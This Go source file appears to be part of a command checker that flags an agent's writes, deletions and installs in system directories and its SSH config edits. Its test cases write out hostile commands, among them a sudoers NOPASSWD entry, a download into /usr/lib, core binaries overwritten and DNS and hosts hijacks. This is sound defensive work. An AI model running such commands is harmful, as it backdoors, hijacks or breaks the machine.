package commands

import (
	"path"
	"regexp"
	"strings"
)

// systemWriteRules judge writes and deletions of single files in the
// system's own directories (/etc, /usr outside /usr/local, /bin, /sbin,
// /lib, /boot): an agent working on a project has no reason to replace,
// plant or remove files there, and doing so changes how the whole machine
// runs (configuration, programs, libraries, the boot).
//
// They are three rules, one per effect, so that the severity fit measures
// each on its own: deleting a system file, installing a program or library
// the way build guides do (a link or a copy into a bin or lib directory,
// which everyday commands do too), and every other write (planting,
// replacing or overwriting a file).
var systemWriteRules = []*rule{
	{
		ID: "system-file-write", Class: "destructive filesystem", Sev: high,
		Msg: "writes or replaces a file in a system directory",
		Must: []string{
			"wget -O /usr/lib/x/helper.py http://192.0.2.70/h.py",
			"cp payload /usr/bin/ls",
			"echo 'ALL ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/x",
			"printf 'nameserver 192.0.2.71\\n' > /etc/resolv.conf",
			"echo '192.0.2.72 updates.example.org' | sudo tee -a /etc/hosts",
			"ln -sf /bin/bash /usr/bin/passwd",
			"cp /bin/dash /usr/lib/helper/run",
			"sudo cp /var/tmp/agent /usr/sbin/kworkerd",
		},
		MustNot: []string{
			"cp build/app /usr/local/bin/app",
			"cat /etc/os-release",
			"cp /etc/nginx/nginx.conf ./nginx.conf.bak",
			"rm -f /tmp/build.log",
			"echo hi > /dev/null",
			"sudo ln -s /opt/tool/bin/tool /usr/bin/tool",
			"echo '127.0.0.1 api.local' | sudo tee -a /etc/hosts",
			"echo 'nameserver 1.1.1.1' | sudo tee /etc/resolv.conf",
		},
		check: checkSystemWrite,
	},
	{
		ID: "system-file-delete", Class: "destructive filesystem", Sev: high,
		Msg:     "deletes a file in a system directory",
		Must:    []string{"rm /etc/security/limits.conf", "sudo rm -f /usr/lib/os-release", "unlink /etc/localtime", "sudo rm /etc/apt/sources.list"},
		MustNot: []string{"rm -f /tmp/build.log", "rm -rf ./etc/generated", "rm /usr/local/bin/tool", "sudo rm /etc/apt/sources.list.d/old-ppa.list"},
		check:   checkSystemDelete,
	},
	{
		ID: "service-config-write", Class: "destructive filesystem", Sev: medium,
		Msg:     "writes a server's configuration, or tunes the kernel, modules, log rotation or limits, under /etc",
		Must:    []string{"sudo cp nginx.conf /etc/nginx/sites-available/app", "echo '{\"log-level\":\"warn\"}' | sudo tee /etc/docker/daemon.json"},
		MustNot: []string{"cat /etc/nginx/nginx.conf", "cp /etc/nginx/nginx.conf ./backup.conf"},
		check:   checkServiceConfig,
	},
	{
		ID: "system-install", Class: "destructive filesystem", Sev: medium,
		Msg: "installs a program or library into a system directory (a link or a copy into a bin or lib directory)",
		Must: []string{
			"sudo ln -s /opt/tool/bin/tool /usr/bin/tool",
			"sudo cp -a libfoo.so libfoo.so.1 /usr/lib/",
			"sudo install -m 755 build/tool /usr/bin/tool",
			"ln -s /var/cache/pkgs /etc/pkgtool/cache",
		},
		MustNot: []string{"cp build/app /usr/local/bin/app", "ln -s ../shared/config.yml config.yml", "cp README.md /tmp/notes.md"},
		check:   checkSystemInstall,
	},
}

func init() { rules = append(rules, systemWriteRules...) }

// systemFile reports a path inside a system directory that is not one of
// the places software is installed by hand (/usr/local, /opt) or a device.
func systemFile(p string) bool {
	n := normPath(p)
	for _, pre := range []string{"/usr/local/", "/usr/src/", "/usr/share/doc/", "/etc/apt/", "/usr/share/keyrings/", "/etc/yum.repos.d/",
		"/etc/zypp/repos.d/", "/etc/pki/rpm-gpg/", "/etc/bash_completion.d/", "/usr/share/bash-completion/", "/usr/share/zsh/"} {
		// Hand-installed software, and package sources with their keys
		// (install guides add them; the package manager checks them).
		if strings.HasPrefix(n, pre) {
			return false
		}
	}
	for _, pre := range []string{"/etc/", "/usr/", "/bin/", "/sbin/", "/lib/", "/lib32/", "/lib64/", "/boot/"} {
		if strings.HasPrefix(n, pre) && len(n) > len(pre) {
			return true
		}
	}
	return false
}

// programDirs are the directories that hold the system's programs and
// libraries: installing into them is what build guides do.
var programDirs = []string{"/usr/bin", "/usr/sbin", "/bin", "/sbin", "/usr/lib", "/usr/lib32", "/usr/lib64", "/lib", "/lib32", "/lib64", "/usr/libexec"}

// inProgramDir reports a path that is one of programDirs or directly (or
// in an architecture subdirectory, /usr/lib/x86_64-linux-gnu) inside one.
func inProgramDir(n string) bool {
	for _, d := range programDirs {
		if n == d {
			return true
		}
		if rest, ok := strings.CutPrefix(n, d+"/"); ok {
			return !strings.Contains(rest, "/") || strings.Count(rest, "/") == 1 && strings.HasSuffix(strings.SplitN(rest, "/", 2)[0], "-gnu")
		}
	}
	return false
}

// corePrograms are programs every login runs or trusts: a copy or a link
// over one of them replaces it for everyone.
var corePrograms = set("ls", "ps", "ln", "cp", "mv", "rm", "cat", "sh", "bash", "dash", "zsh", "su", "sudo", "login", "passwd",
	"sshd", "ssh", "netstat", "ss", "top", "who", "w", "last", "lsof", "find", "grep", "kill", "id", "whoami", "cron", "crond",
	"systemctl", "init", "mount", "chmod", "chown", "useradd", "python", "python3", "perl", "curl", "wget", "tar", "env", "awk",
	"sed", "ifconfig", "ip", "iptables", "pkexec", "chsh", "newgrp", "gpasswd", "vi", "vim", "less", "more", "man")

// installs reports whether c links or copies programs or libraries into a
// program directory the way an install step does: ln, install or cp,
// nothing written over a core program, no shell copied or linked in.
func installs(c *call) bool {
	switch c.name {
	case "ln", "install", "cp":
	default:
		return false
	}
	ops := operands(c, "-m -o -g -t -S --target-directory --mode --owner --group")
	if len(ops) < 2 {
		return false
	}
	dst := normPath(ops[len(ops)-1])
	if c.name != "ln" && !inProgramDir(dst) || !systemFile(dst) && !inProgramDir(dst) {
		return false
	}
	if !dirLike(dst) && corePrograms[path.Base(dst)] {
		return false
	}
	for _, s := range ops[:len(ops)-1] {
		n := normPath(s)
		if isShell(progName(s)) || isDevice(n) || n == "/dev/null" {
			return false
		}
		// A program brought in from a temporary directory or a hidden
		// path is being planted, not installed from a build.
		if strings.HasPrefix(n, "/tmp/") || strings.HasPrefix(n, "/var/tmp/") || strings.HasPrefix(n, "/dev/shm/") || strings.Contains(n, "/.") {
			return false
		}
	}
	return true
}

// dirLike reports a destination that names one of the program directories
// itself (cp a.so b.so /usr/lib/).
func dirLike(n string) bool {
	for _, d := range programDirs {
		if n == d {
			return true
		}
	}
	return false
}

// serviceDirs hold the configuration of servers an administrator sets
// up by hand: writing there is how their install guides go on.
var serviceDirs = []string{"/etc/nginx/", "/etc/apache2/", "/etc/httpd/", "/etc/php/", "/etc/mysql/", "/etc/postgresql/", "/etc/redis/",
	"/etc/haproxy/", "/etc/supervisor/", "/etc/docker/", "/etc/containerd/", "/etc/prometheus/", "/etc/grafana/", "/etc/caddy/",
	"/etc/varnish/", "/etc/squid/", "/etc/mongod.conf", "/etc/elasticsearch/", "/etc/rabbitmq/", "/etc/memcached.conf",
	// Tuning the machine: kernel parameters, module options, log rotation,
	// resource limits. What would weaken it (ASLR off, a module-load
	// command, a rotation script from /tmp) has rules of its own.
	"/etc/sysctl.conf", "/etc/sysctl.d/", "/etc/modprobe.d/", "/etc/logrotate.d/", "/etc/security/limits.conf", "/etc/security/limits.d/",
	// Firewall rules saved to be restored at boot (iptables-save > …).
	"/etc/iptables/", "/etc/nftables.conf"}

func serviceConfig(p string) bool {
	n := normPath(p)
	for _, d := range serviceDirs {
		if strings.HasPrefix(n, d) || n == strings.TrimSuffix(d, "/") {
			return true
		}
	}
	return false
}

func checkSystemWrite(c *call, _ *config) *hit {
	if c.name == "rm" || c.name == "unlink" || c.name == "shred" || installs(c) {
		return nil
	}
	for _, w := range writes(c) {
		// An ordinary job written to a cron file, or the project's unit
		// file installed, is persistence-cron's or persistence-autostart's
		// to judge (medium); writing it changes nothing else.
		if systemFile(w) && !serviceConfig(w) && !sshdTuning(c, w) && !(cronPathRe.MatchString(normPath(w)) && ordinaryCronWrite(c)) && !ordinaryUnitWrite(c, normPath(w)) && !ordinaryNameWrite(c, w) {
			return c.rule()
		}
	}
	return nil
}

func checkServiceConfig(c *call, _ *config) *hit {
	if c.name == "rm" || c.name == "unlink" || c.name == "shred" {
		return nil
	}
	for _, w := range writes(c) {
		if serviceConfig(w) || sshdTuning(c, w) {
			return c.rule()
		}
	}
	return nil
}

// sshdTuning reports an in-place edit of the SSH daemon's configuration
// that only sets how it listens or times out (the port, the address,
// keep-alives, the banner), as hardening guides do. An edit that touches
// who may log in or how (root, passwords, keys, forced commands,
// forwarding) is not tuning and stays high.
func sshdTuning(c *call, w string) bool {
	n := normPath(w)
	if c.name != "sed" || n != "/etc/ssh/sshd_config" && !strings.HasPrefix(n, "/etc/ssh/sshd_config.d/") {
		return false
	}
	script := lower(strings.Join(c.args(), " "))
	if sshdHardeningRe.MatchString(script) {
		// s/#PasswordAuthentication yes/PasswordAuthentication no/: hardening.
		return true
	}
	if containsAny(script, "permitrootlogin", "passwordauthentication", "permitemptypasswords", "authorizedkeys", "forcecommand", "pubkeyauthentication",
		"usepam", "challengeresponse", "kbdinteractive", "allowusers", "allowgroups", "denyusers", "denygroups", "subsystem", "permituserenvironment",
		"hostkey", "trustedusercakeys", "authenticationmethods", "gatewayports", "forwarding", "permittunnel", "permitopen", "match", "include", "chroot", "/d") {
		return false
	}
	return containsAny(script, "port ", "listenaddress", "maxauthtries", "clientaliveinterval", "clientalivecountmax", "logingracetime", "maxsessions",
		"maxstartups", "banner", "printmotd", "loglevel", "tcpkeepalive", "usedns")
}

func checkSystemDelete(c *call, _ *config) *hit {
	if c.name != "rm" && c.name != "unlink" && c.name != "shred" {
		return nil
	}
	for _, op := range operands(c, "") {
		if systemFile(op) || deletedSystemFile(op) {
			return c.rule()
		}
	}
	return nil
}

// deletedSystemFile reports files that systemFile leaves to installers
// but whose deletion breaks the system: the package manager's main source
// list (its .d entries are what install guides remove).
func deletedSystemFile(p string) bool {
	return normPath(p) == "/etc/apt/sources.list"
}

func checkSystemInstall(c *call, _ *config) *hit {
	if installs(c) {
		return c.rule()
	}
	return nil
}

// sshdHardeningRe is a sed substitution whose replacement turns a way of
// logging in off (PasswordAuthentication no, PermitRootLogin no, …) and does
// nothing else.
var sshdHardeningRe = regexp.MustCompile(`^-i\S*\s+['"]?s/[^/]*/\s*#?\s*(passwordauthentication|permitrootlogin|permitemptypasswords|x11forwarding|kbdinteractiveauthentication|challengeresponseauthentication)\s+(no|prohibit-password|without-password)\s*/\S*['"]?\s+\S*sshd_config\s*$`)
